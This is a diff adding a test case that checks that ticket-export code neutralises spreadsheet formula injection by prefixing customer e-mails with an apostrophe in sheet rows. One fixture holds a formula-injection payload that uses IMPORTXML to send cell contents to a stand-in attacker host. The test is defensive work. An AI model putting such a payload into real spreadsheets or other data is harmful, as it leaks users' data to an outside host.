@@ -160,6 +160,23 @@ for (const mode of MODES) {
       });
     });
 
+    describe('when a customer e-mail starts like a spreadsheet formula', () => {
+      it('writes it to the sheets as text (a leading apostrophe), and keeps it as sent everywhere else', async () => {
+        const formula = ticket({ customer_email: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")@example.com' });
+        const plus = ticket({ customer_email: '+1@example.com' });
+        expect((await webhook([formula, plus])).status).toBe(200);
+        await eventually(async () => {
+          expect(sheetRows('tickets-to-print')).toEqual(expect.arrayContaining([
+            [formula.ticket_id, `'${formula.customer_email}`, '50.30', 'GBP'],
+            [plus.ticket_id, "'+1@example.com", '50.30', 'GBP'],
+          ]));
+          expect((await call(t.url, 'GET', '/api/tickets')).json).toContainEqual({ ticket_id: formula.ticket_id, price, customer_email: formula.customer_email });
+        });
+        expect((await webhook([{ ...plus, status: 'canceled' }])).status).toBe(200);
+        await eventually(() => expect(sheetRows('tickets-to-refund')).toEqual([[plus.ticket_id, "'+1@example.com", '50.30', 'GBP']]));
+      });
+    });
+
     describe('when the provider writes a price with leading zeros', () => {
       it('keeps the amount in its one form everywhere: list, sheet row', async () => {
         const padded = ticket({ price: { amount: '0050.30', currency: 'GBP' } });
